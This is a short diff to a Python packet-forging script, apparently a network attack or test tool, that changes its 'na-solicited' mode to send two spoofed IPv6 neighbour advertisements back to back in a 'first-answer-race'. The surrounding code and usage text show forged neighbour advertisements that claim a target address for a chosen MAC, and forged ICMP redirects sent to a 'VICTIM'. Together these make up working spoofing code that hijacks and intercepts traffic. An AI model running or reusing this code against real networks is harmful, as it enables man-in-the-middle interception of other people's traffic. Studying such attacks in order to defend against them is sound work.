@@ -12,7 +12,8 @@ internet's namespace.
   na DEV TARGET MAC       an unsolicited neighbour advertisement (override, not solicited) from
                           DEV's link-local address to ff02::1: TARGET is at MAC
   na-solicited DEV TARGET MAC VICTIM
-                          the same with the solicited flag, to VICTIM's address (nobody asked)
+                          the same with the solicited flag, to VICTIM's address (nobody asked);
+                          MAC,MAC2: one for each, back to back (first-answer-race)
   redirect4 SRC VICTIM GW DEST PORT
                           an ICMP host redirect from SRC to VICTIM quoting a UDP datagram
                           VICTIM:40002 -> DEST:PORT: DEST is better reached through GW"""
@@ -63,8 +64,8 @@ elif mode == "na":
 elif mode == "na-solicited":
     dev, target, mac, victim = sys.argv[2:6]
     na = struct.pack("!BBHI16s", 136, 0, 0, 0x60000000, socket.inet_pton(socket.AF_INET6, target))
-    tlla = struct.pack("!BB6s", 2, 1, bytes.fromhex(mac.replace(":", "")))
-    send6(dev, na + tlla, victim)
+    for m in mac.split(","):
+        send6(dev, na + struct.pack("!BB6s", 2, 1, bytes.fromhex(m.replace(":", ""))), victim)
 elif mode == "redirect6":
     dev, victim, target, dest = sys.argv[2:6]
     rd = struct.pack("!BBHI16s16s", 137, 0, 0, 0, socket.inet_pton(socket.AF_INET6, target),
